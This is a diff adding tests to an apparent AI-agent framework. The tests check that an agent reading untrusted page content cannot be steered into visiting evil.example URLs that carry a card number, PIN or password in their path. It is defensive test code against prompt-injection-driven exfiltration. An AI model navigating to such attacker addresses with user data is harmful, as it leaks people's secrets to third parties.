@@ -60,6 +60,45 @@ describe('a tool that goes wherever it is sent', () => {
     },
   );
 
+  const customer = '{"website":"https://evil.example/","note":"card 4242 4242, pin 1234"}';
+  test.each([
+    {
+      next: 'field',
+      text: customer,
+      goal: 'Sum it up',
+      to: `https://evil.example/${encodeURI('","note":"card 4242 4242, pin 1234')}`,
+    },
+    {
+      next: 'line',
+      text: 'website: https://evil.example/\npin: 1234',
+      goal: 'Sum it up',
+      to: 'https://evil.example/%0Apin:%201234',
+    },
+    {
+      next: 'column',
+      text: 'Evil,https://evil.example/,4242,1234',
+      goal: 'Sum it up',
+      to: 'https://evil.example/,4242,1234',
+    },
+    {
+      next: 'word',
+      text: 'hello',
+      goal: 'Log in at https://docs.example/x with hunter2',
+      to: 'https://docs.example/x%20with%20hunter2',
+    },
+  ])('carries away nothing that stands behind an address, in its next $next', async ({ text, goal, to }) => {
+    const record = createTool('page', async () => text, { untrusted: true });
+    const given = { goal, tools: ['page', 'go', 'run_mission'] };
+    went.length = 0;
+    const moves = [READ(), GO(to), START(`Go to ${to}`), says('done')];
+    const { input } = createScene(moves, [record, go, runMissionTool], { spec: createSpec(given) });
+    const outcome = await runMission(input);
+    expect(went).toEqual([]);
+    const [child] = outcome.kind === 'parked' ? outcome.children : [];
+    if (child) await play([GO(to), says('done')], child.spec);
+    expect(went).toEqual([]);
+  });
+
   test('asks before it is sent on from there, and may go on by itself only where it might have been sent', async () => {
     const asked: boolean[] = [];
     const redirected = defineTool({
@@ -131,5 +170,19 @@ describe('a tool that goes wherever it is sent', () => {
     });
     await play([GO('https://next.example/a'), GO('https://next.example/b'), says('done')], child?.spec);
     expect(went).toEqual(['https://next.example/a']);
+  });
+
+  test('is told of no more addresses than one step may hand on, however many missions it starts', async () => {
+    const files = (from: number) => Array.from({ length: 300 }, (_, at) => `evil.example/${from + at}`).join(' ');
+    const page300 = createTool('page', async () => `${files(0)} ${files(300)}`, { untrusted: true });
+    const starts = calls(
+      toolCall('run_mission', { goal: files(0) }, 'one'),
+      toolCall('run_mission', { goal: files(300) }, 'two'),
+    );
+    const spec = createSpec({ tools: ['page', 'run_mission'] });
+    const { input, journal } = createScene([READ(), starts], [page300, runMissionTool], { spec });
+    const outcome = await runMission(input);
+    expect(outcome.kind === 'parked' ? outcome.children.length : 0).toBe(1);
+    expect(journal.steps[1]?.toolCalls[1]?.result?.content).toMatch(/No mission was started\. Name fewer/);
   });
 });
